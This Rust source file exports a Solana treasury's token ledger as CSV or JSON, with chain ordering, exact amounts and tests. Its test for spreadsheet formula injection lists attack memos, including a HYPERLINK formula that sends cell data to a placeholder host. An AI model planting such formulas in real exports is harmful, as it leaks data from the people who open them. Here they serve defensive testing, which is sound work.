//! The ledger export: one row per movement of the treasury's token account,
//! in chain order, with exact decimal amounts and the running balance (which
//! closes at the account's on-chain balance when the watcher has caught up).
use serde::Serialize;
use usd1_client::format_amount;

use crate::store::chain::StoredMovement;
use crate::store::payload::DECIMALS;
use crate::store::{Store, StoreError};

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Format {
    Csv,
    Json,
}

/// The export's columns, in order (docs/payments.md, "The ledger export", explains each).
pub const COLUMNS: [&str; 12] = [
    "signature",
    "slot",
    "block_time",
    "kind",
    "invoice_id",
    "counterparty",
    "amount",
    "fee_sol",
    "running_balance",
    "memo",
    "verdict",
    "difference",
];

#[derive(Clone, Debug, PartialEq, Eq, Serialize, utoipa::ToSchema)]
pub struct Row {
    pub signature: String,
    pub slot: u64,
    /// UTC ISO 8601, empty where the node gave no block time.
    pub block_time: String,
    /// `payment`, `unmatched`, `payout`, `outgoing`, `redemption_requested`,
    /// `redemption_settled` (amount 0: the tokens left at the request),
    /// `redemption_refund`, `seized`, `minted`, `burned` or `fee`.
    pub kind: String,
    /// The invoice paid, `unmatched` for money in without one, else empty.
    pub invoice_id: String,
    pub counterparty: String,
    /// Signed decimal: positive in, negative out.
    pub amount: String,
    /// SOL the treasury paid in fees for the transaction (0 if another paid).
    pub fee_sol: String,
    pub running_balance: String,
    pub memo: String,
    pub verdict: String,
    pub difference: String,
}

fn signed_amount(units: i128) -> String {
    let magnitude = u64::try_from(units.unsigned_abs()).unwrap_or(u64::MAX);
    let text = format_amount(magnitude, DECIMALS);
    if units < 0 {
        format!("-{text}")
    } else {
        text
    }
}

pub use crate::store::iso8601;

pub use usd1_service::time::parse_time;

/// The rows of `[from, to)`; the running balance starts from the balance
/// before the first row.
pub async fn ledger(
    store: &Store,
    wallet: &solana_sdk::pubkey::Pubkey,
    from: Option<i64>,
    to: Option<i64>,
) -> Result<Vec<Row>, StoreError> {
    let movements = chain_order(store.movements(from, to).await?);
    let mut balance: i128 = movements
        .first()
        .map_or(0, |m| i128::from(m.balance_after) - i128::from(m.delta));
    let wallet = wallet.to_string();
    Ok(movements
        .into_iter()
        .map(|m| {
            balance += i128::from(m.delta);
            let fee = if m.fee_payer == wallet { m.fee } else { 0 };
            Row {
                signature: m.signature,
                slot: m.slot,
                block_time: m.block_time.map(iso8601).unwrap_or_default(),
                invoice_id: match (&m.invoice_id, m.kind.as_str()) {
                    (Some(id), _) => id.clone(),
                    (None, "unmatched") => "unmatched".into(),
                    _ => String::new(),
                },
                kind: m.kind,
                counterparty: m.counterparty.unwrap_or_default(),
                amount: signed_amount(i128::from(m.delta)),
                fee_sol: format_amount(fee, 9),
                running_balance: signed_amount(balance),
                memo: m.memo.unwrap_or_default(),
                verdict: m.verdict.unwrap_or_default(),
                difference: m
                    .difference
                    .map(|d| signed_amount(i128::from(d)))
                    .unwrap_or_default(),
            }
        })
        .collect())
}

/// Movements in the order they executed. Slots order them; within a slot
/// (whose transactions `getSignaturesForAddress` need not list in execution
/// order) the balances do: each one starts from the balance the one before
/// it left; rows that move nothing come last in their slot.
fn chain_order(mut movements: Vec<StoredMovement>) -> Vec<StoredMovement> {
    movements.sort_by(|a, b| {
        a.slot
            .cmp(&b.slot)
            .then_with(|| a.signature.cmp(&b.signature))
    });
    let before = |m: &StoredMovement| i128::from(m.balance_after) - i128::from(m.delta);
    let mut ordered: Vec<StoredMovement> = Vec::with_capacity(movements.len());
    let mut rest = movements.into_iter().peekable();
    while let Some(first) = rest.next() {
        let mut slot = vec![first];
        while rest.peek().is_some_and(|m| m.slot == slot[0].slot) {
            slot.extend(rest.next());
        }
        // The slot's opening balance: the previous slot's closing one, or
        // the one no other movement of the slot leaves behind.
        let mut balance = match ordered.last() {
            Some(last) => i128::from(last.balance_after),
            None => {
                let left: Vec<i128> = slot.iter().map(|m| i128::from(m.balance_after)).collect();
                slot.iter()
                    .map(before)
                    .find(|b| !left.contains(b))
                    .unwrap_or_else(|| before(&slot[0]))
            }
        };
        // Rows that move nothing (a settled redemption) cannot be placed by
        // balance: they close the slot.
        let (still, mut moving): (Vec<_>, Vec<_>) = slot.into_iter().partition(|m| m.delta == 0);
        while !moving.is_empty() {
            let next = moving
                .iter()
                .position(|m| before(m) == balance)
                .unwrap_or(0);
            let movement = moving.remove(next);
            balance = i128::from(movement.balance_after);
            ordered.push(movement);
        }
        ordered.extend(still);
    }
    ordered
}

/// RFC 4180 CSV with a header line.
/// A text cell a spreadsheet will not run: one that begins with what starts
/// a formula (`=`, `+`, `-`, `@`, a tab, a carriage return) gets a leading
/// `'`, which spreadsheets show as text. Anyone can put a memo on a transfer
/// of 0.000001; the accountant's spreadsheet must not run it.
pub fn text_cell(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text.to_string()
    }
}

pub fn csv(rows: &[Row]) -> String {
    let field = |text: &str| {
        if text.contains([',', '"', '\n', '\r']) {
            format!("\"{}\"", text.replace('"', "\"\""))
        } else {
            text.to_string()
        }
    };
    let mut out = COLUMNS.join(",");
    out.push_str("\r\n");
    for row in rows {
        // Text cells neutralised; numbers (a signed amount too) as they are.
        let cells = [
            text_cell(&row.signature),
            row.slot.to_string(),
            text_cell(&row.block_time),
            text_cell(&row.kind),
            text_cell(&row.invoice_id),
            text_cell(&row.counterparty),
            row.amount.clone(),
            row.fee_sol.clone(),
            row.running_balance.clone(),
            text_cell(&row.memo),
            text_cell(&row.verdict),
            row.difference.clone(),
        ];
        let cells: Vec<String> = cells.iter().map(|c| field(c)).collect();
        out.push_str(&cells.join(","));
        out.push_str("\r\n");
    }
    out
}

pub fn json(rows: &[Row]) -> String {
    serde_json::to_string_pretty(rows).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn moved(signature: &str, slot: u64, delta: i64, balance_after: u64) -> StoredMovement {
        StoredMovement {
            signature: signature.into(),
            slot,
            block_time: Some(0),
            delta,
            balance_after,
            fee: 0,
            fee_payer: String::new(),
            counterparty: None,
            memo: None,
            kind: "payment".into(),
            invoice_id: None,
            verdict: None,
            difference: None,
        }
    }

    #[test]
    fn a_slots_movements_are_ordered_by_their_balances() {
        // Executed z, a, m in slot 7 (0 → 5 → 12 → 10), listed in another order.
        let listed = vec![
            moved("m", 7, -2, 10),
            moved("a", 7, 7, 12),
            moved("later", 9, 1, 11),
            moved("z", 7, 5, 5),
        ];
        let order: Vec<String> = chain_order(listed)
            .into_iter()
            .map(|m| m.signature)
            .collect();
        assert_eq!(order, ["z", "a", "m", "later"]);
    }

    #[test]
    fn csv_quotes_what_needs_it() {
        let row = Row {
            signature: "s".into(),
            slot: 1,
            block_time: iso8601(1_700_000_000),
            kind: "payment".into(),
            invoice_id: "inv_1".into(),
            counterparty: String::new(),
            amount: signed_amount(-1_500_000),
            fee_sol: format_amount(5000, 9),
            running_balance: "0".into(),
            memo: "a, \"b\"".into(),
            verdict: String::new(),
            difference: String::new(),
        };
        let text = csv(&[row]);
        assert_eq!(
            text.lines().nth(1),
            Some("s,1,2023-11-14T22:13:20Z,payment,inv_1,,-1.5,0.000005,0,\"a, \"\"b\"\"\",,")
        );
        assert_eq!(parse_time("2026-11-01"), Ok(1_793_491_200));
        assert!(parse_time("yesterday").is_err());
    }

    /// Issue 33, item 16: a memo that a spreadsheet would run as a formula
    /// is written as text; numbers, negative ones too, stay numbers.
    #[test]
    fn csv_text_cells_never_run_as_formulas() {
        for (memo, cell) in [
            (
                r#"=HYPERLINK("http://x/?"&A1,"Click")"#,
                r#""'=HYPERLINK(""http://x/?""&A1,""Click"")""#,
            ),
            ("+1+2", "'+1+2"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tcmd", "'\tcmd"),
            ("\rcmd", "\"'\rcmd\""),
            ("invoice:inv_7", "invoice:inv_7"),
        ] {
            let row = Row {
                signature: "s".into(),
                slot: 1,
                block_time: iso8601(1_700_000_000),
                kind: "unmatched".into(),
                invoice_id: String::new(),
                counterparty: String::new(),
                amount: signed_amount(-1_500_000),
                fee_sol: format_amount(5000, 9),
                running_balance: "0".into(),
                memo: memo.into(),
                verdict: String::new(),
                difference: "-3".into(),
            };
            let text = csv(&[row]);
            let line = text.split("\r\n").nth(1).unwrap();
            assert_eq!(
                line,
                format!("s,1,2023-11-14T22:13:20Z,unmatched,,,-1.5,0.000005,0,{cell},,-3"),
                "{memo:?}"
            );
        }
    }
}
